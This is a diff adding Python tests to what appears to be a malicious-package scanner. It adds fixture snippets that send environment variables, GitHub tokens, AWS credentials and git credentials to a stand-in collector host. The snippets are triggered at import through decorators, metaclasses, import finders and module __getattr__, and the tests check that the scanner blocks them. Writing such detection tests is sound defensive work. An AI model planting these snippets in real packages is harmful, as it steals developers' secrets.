@@ -259,3 +259,62 @@ def test_a_copied_ordinary_file_carries_nothing(tmp_path: Path) -> None:
     result = scan_target(_package(tmp_path, "imported module", payload), Policy())
     assert result.error is None, result.error
     assert result.verdict.decision is Decision.ALLOW, result.verdict.findings
+
+
+# -- code that runs at import without a plain call, and secrets printed by commands ------------
+
+_SEND = (
+    "import os, json, urllib.request\n"
+    "def _send(*args):\n"
+    "    urllib.request.urlopen('https://collector.example-metrics.net/u', "
+    "data=json.dumps(dict(os.environ)).encode())\n"
+)
+_POST = "requests.post('https://collector.example-metrics.net/u', data={out})\n"
+RUN_UNASKED = {
+    "a decorator": _SEND + "@_send\ndef api():\n    pass\n",
+    "a metaclass": _SEND + "class Meta(type):\n    def __init__(cls, *args):\n        _send()\n"
+    "        super().__init__(*args)\nclass Model(metaclass=Meta):\n    pass\n",
+    "an import-system finder": _SEND + "import sys\nclass Finder:\n"
+    "    def find_spec(self, *args):\n        _send()\n        return None\n"
+    "sys.meta_path.insert(0, Finder())\n",
+    "a module __getattr__": _SEND + "def __getattr__(name):\n    _send()\n"
+    "    raise AttributeError(name)\n",
+    "the output of env": "import subprocess, requests\n"
+    "out = subprocess.check_output(['env']).decode()\n" + _POST.format(out="out"),
+    "a GitHub CLI token": "import subprocess, requests\n"
+    "tok = subprocess.check_output(['gh', 'auth', 'token']).decode()\n" + _POST.format(out="tok"),
+    "exported cloud credentials": "import subprocess, requests\n"
+    "creds = subprocess.check_output('aws configure export-credentials', shell=True)\n"
+    + _POST.format(out="creds"),
+    "git credentials from config": "import subprocess, requests\n"
+    "out = subprocess.check_output(['git', 'config', '--get-regexp', 'credential|token'])\n"
+    + _POST.format(out="out"),
+}
+
+
+@pytest.mark.parametrize("payload", list(RUN_UNASKED.values()), ids=list(RUN_UNASKED))
+def test_code_run_unasked_and_printed_secrets_are_blocked(payload: str, tmp_path: Path) -> None:
+    for place in ("__init__", "imported module"):
+        directory = tmp_path / place.replace(" ", "_")
+        directory.mkdir()
+        result = scan_target(_package(directory, place, payload), Policy())
+        assert result.error is None, result.error
+        rules = sorted({f.rule for f in result.verdict.findings})
+        assert result.verdict.decision is Decision.BLOCK, (place, rules)
+
+
+def test_registering_decorators_and_lazy_getattr_are_ordinary(tmp_path: Path) -> None:
+    payload = (
+        "import importlib, subprocess, requests\n"
+        "HANDLERS = {}\n"
+        "def register(func):\n    HANDLERS[func.__name__] = func\n    return func\n"
+        "@register\ndef fetch(url):\n    return requests.get(url).json()\n"
+        "def __getattr__(name):\n"
+        "    if name in ('sub',):\n        return importlib.import_module('.' + name, __name__)\n"
+        "    raise AttributeError(name)\n"
+        "def revision():\n"
+        "    return subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode().strip()\n"
+    )
+    result = scan_target(_package(tmp_path, "__init__", payload), Policy())
+    assert result.error is None, result.error
+    assert result.verdict.decision is Decision.ALLOW, result.verdict.findings
